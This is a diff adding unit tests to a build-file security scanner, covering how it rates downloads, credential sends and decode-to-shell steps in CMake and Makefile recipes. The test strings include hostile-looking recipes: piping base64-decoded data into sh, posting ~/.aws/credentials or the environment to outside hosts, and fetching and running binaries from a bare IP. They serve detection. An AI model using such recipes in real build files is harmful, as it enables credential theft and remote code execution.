@@ -266,6 +266,14 @@ execute_process(
     expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://example.net/tool ${BIN}/tool)\nfile(CHMOD ${BIN}/tool PERMISSIONS OWNER_EXECUTE OWNER_READ)'))).toMatchObject({ severity: 'high' });
     // Pinned with a checksum from an ordinary host: what the fix asks for.
     expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://example.net/tools/setup.sh ${CMAKE_BINARY_DIR}/setup.sh\n  EXPECTED_HASH SHA256=0f3c2d)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/setup.sh)'))).toBeNull();
+    // CPM.cmake's get_cpm.cmake: a release at a version over HTTPS, with or without its hash, is ordinary (as FetchContent of a release is).
+    const cpm = (hash: string) => `set(CPM_DOWNLOAD_VERSION 0.40.2)\nset(CPM_DOWNLOAD_LOCATION "\${CMAKE_BINARY_DIR}/cmake/CPM_\${CPM_DOWNLOAD_VERSION}.cmake")\nfile(DOWNLOAD\n  https://github.com/cpm-cmake/CPM.cmake/releases/download/v\${CPM_DOWNLOAD_VERSION}/CPM.cmake\n  \${CPM_DOWNLOAD_LOCATION}${hash})\ninclude(\${CPM_DOWNLOAD_LOCATION})`;
+    expect(buildFinding(added('cmake/get_cpm.cmake', cpm(' EXPECTED_HASH SHA256=${CPM_HASH_SUM}')))).toBeNull();
+    expect(buildFinding(added('cmake/get_cpm.cmake', cpm('')))).toBeNull();
+    // At a moving ref, over plain HTTP, or from a bare IP, without a hash: a download; with a hash from a bare IP still one.
+    expect(buildFinding(added('cmake/get_cpm.cmake', 'file(DOWNLOAD https://raw.githubusercontent.com/cpm-cmake/CPM.cmake/master/cmake/CPM.cmake ${CMAKE_BINARY_DIR}/CPM.cmake)'))).toMatchObject({ severity: 'medium' });
+    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD http://downloads.example.org/v1.2/tool ${BIN}/tool)\nfile(CHMOD ${BIN}/tool PERMISSIONS OWNER_EXECUTE OWNER_READ)'))).toMatchObject({ severity: 'high' });
+    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://45.77.12.9/v1.2/tool ${BIN}/tool EXPECTED_HASH SHA256=0f3c)\nfile(CHMOD ${BIN}/tool PERMISSIONS OWNER_EXECUTE)'))).toMatchObject({ severity: 'critical' });
   });
 
   it('reads add_custom_command that decodes a test file and pipes it into a shell as critical (the xz shape, in CMake)', () => {
@@ -369,7 +377,48 @@ describe('build-code-behavior: plain Makefiles and *.mk', () => {
   it('reads a recipe that decodes data into a shell, or sends credentials, as critical', () => {
     expect(buildFinding(added('Makefile', 'check:\n\tbase64 -d testdata/fixture.b64 | sh'))).toMatchObject({ severity: 'critical', line: 2, title: 'Makefile decodes data and runs it as shell code when make runs' });
     expect(buildFinding(added('build/rules.mk', 'deps:\n\tcurl -s -d @$$HOME/.aws/credentials https://webhook.site/3f1c'))).toMatchObject({ severity: 'critical', title: 'Makefile include sends credentials or the environment to a host when make runs' });
-    expect(buildFinding(added('GNUmakefile', 'tools:\n\tcurl -fsSL -o bin/gen https://example.net/gen\n\tchmod +x bin/gen && bin/gen'))).toMatchObject({ severity: 'high' });
+    expect(buildFinding(added('Makefile', 'tools:\n\tcurl -fsSL -o bin/protoc-gen https://45.77.12.9/v1.2.3/gen\n\tchmod +x bin/protoc-gen'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('Makefile', 'fonts:\n\tchmod +x assets/fonts/inter.woff2 && ./assets/fonts/inter.woff2'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('Makefile', 'report:\n\tenv | curl -s -X POST --data-binary @- https://collector.example.com/in'))).toMatchObject({ severity: 'critical' });
+  });
+
+  it('judges a tool fetched and made executable by its URL, as a task a developer runs: quiet at a version over HTTPS', () => {
+    // Kubebuilder and operator scaffolding, cert-manager's tools.mk, a Rust project's dev Makefile.
+    const kind = 'KIND_VERSION ?= v0.20.0\n$(KIND): $(LOCALBIN)\n\tcurl -sSLo $(LOCALBIN)/kind https://kind.sigs.k8s.io/dl/$(KIND_VERSION)/kind-linux-amd64 && chmod +x $(LOCALBIN)/kind';
+    expect(buildFinding(added('Makefile', kind))).toBeNull();
+    expect(buildFinding(added('make/tools.mk', '$(BINDIR)/helm:\n\tcurl -sSfL https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz | tar xz -C $(BINDIR)\n\tchmod +x $(BINDIR)/helm'))).toBeNull();
+    expect(buildFinding(added('Makefile', 'opm:\n\tcurl -sSLo $(OPM) https://github.com/operator-framework/operator-registry/releases/download/v1.55.0/$${OS}-$${ARCH}-opm ;\\\n\tchmod +x $(OPM) ;\\'))).toBeNull();
+    expect(buildFinding(added('Makefile', 'gateway:\n\tcurl -sSfL https://github.com/kubernetes-sigs/gateway-api/archive/refs/tags/v$*.tar.gz | tar xz -C $@'))).toBeNull();
+    expect(buildFinding(added('Makefile', 'controller-gen:\n\tGOBIN=$(LOCALBIN) go install sigs.k8s.io/controller-tools/cmd/controller-gen@$(CONTROLLER_TOOLS_VERSION)'))).toBeNull();
+    // A download alone over HTTPS (a fixture, a descriptor), and one whose URL is in a variable.
+    expect(buildFinding(added('Makefile', 'testdata:\n\twget -qO- https://github.com/acme/fixtures/archive/main.tar.gz | tar xz -C testdata'))).toBeNull();
+    expect(buildFinding(added('Makefile', 'bin/tool:\n\t$(CURL) $(TOOL_URL) -o $@\n\tchmod +x $@'))).toBeNull();
+    // A version bump of such a line, with only the URL line changed.
+    const bump = makeFile('Makefile', { patch: '@@ -10,3 +10,3 @@\n $(KUSTOMIZE):\n-\tcurl -sSLo - https://github.com/kubernetes-sigs/kustomize/releases/download/kustomize/v5.4.2/kustomize_v5.4.2_linux_amd64.tar.gz | tar xzf - -C bin/\n+\tcurl -sSLo - https://github.com/kubernetes-sigs/kustomize/releases/download/kustomize/v5.4.3/kustomize_v5.4.3_linux_amd64.tar.gz | tar xzf - -C bin/\n \tchmod +x bin/kustomize' });
+    expect(buildFinding(bump)).toBeNull();
+  });
+
+  it('reports a tool fetched without a version (medium, as curl | sh there), over plain HTTP (high), or from such a host', () => {
+    expect(buildFinding(added('GNUmakefile', 'tools:\n\tcurl -fsSL -o bin/gen https://example.net/gen\n\tchmod +x bin/gen && bin/gen'))).toMatchObject({ severity: 'medium', line: 2, title: 'Makefile downloads and runs code when make runs' });
+    expect(buildFinding(added('Makefile', 'kind:\n\tcurl -Lo bin/kind https://kind.sigs.k8s.io/dl/latest/kind-linux-amd64 && chmod +x bin/kind'))).toMatchObject({ severity: 'medium' });
+    expect(buildFinding(added('Makefile', 'lint:\n\tcurl -sSfL -o install.sh https://raw.githubusercontent.com/acme/lint/master/install.sh && chmod +x install.sh && ./install.sh'))).toMatchObject({ severity: 'medium' });
+    // The worst download is the one judged and shown, whichever comes first.
+    const mixed = buildFinding(added('Makefile', 'a:\n\tcurl -sSLo bin/a https://github.com/acme/a/releases/download/v1.0.0/a\n\tcurl -sSLo bin/b http://downloads.example.org/b\n\tchmod +x bin/a bin/b'));
+    expect(mixed).toMatchObject({ severity: 'high', line: 3 });
+    expect(mixed?.detail).toContain('line 3: curl -sSLo bin/b http://downloads.example.org/b');
+    expect(buildFinding(added('Makefile', 'go.tar.gz:\n\tcurl -o $@ http://go.googlecode.com/files/go1.2.linux-amd64.tar.gz'))).toMatchObject({ severity: 'low' });
+    expect(buildFinding(added('Makefile', 'seed:\n\tcurl -s -o seed.sql https://pastebin.com/raw/x1y2z3'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('names a credential store in a task (a kubeconfig for a test cluster) at low, and a send at medium', () => {
+    expect(buildFinding(added('Makefile', 'KUBECONFIG ?= $$HOME/.kube/config\ne2e:\n\tKUBECONFIG=$(KUBECONFIG) go test ./test/e2e/...'))).toMatchObject({ severity: 'low', title: 'Makefile reads credential files when make runs' });
+    expect(buildFinding(added('Makefile', 'coverage:\n\tcurl -s -F file=@coverage.out https://coverage.example.com/upload'))).toMatchObject({ severity: 'medium' });
+  });
+
+  it('reads Makefile.common and other Makefile.<name> includes, not Automake sources or copies', () => {
+    expect(buildFinding(added('Makefile.common', 'gen:\n\tbase64 -d testdata/fixture.b64 | sh'))).toMatchObject({ severity: 'critical', title: 'Makefile decodes data and runs it as shell code when make runs' });
+    expect(buildFinding(added('Makefile.orig', 'gen:\n\tbase64 -d testdata/fixture.b64 | sh'))).toBeNull();
+    expect(findings(added('Makefile.common', 'lint:\n\tcurl -sfL https://install.goreleaser.com/github.com/golangci/golangci-lint.sh | sh'))).toEqual(['curl-pipe-shell:medium:2']);
   });
 
   it('leaves a download piped into a shell to curl-pipe-shell: one finding for the line, not two', () => {
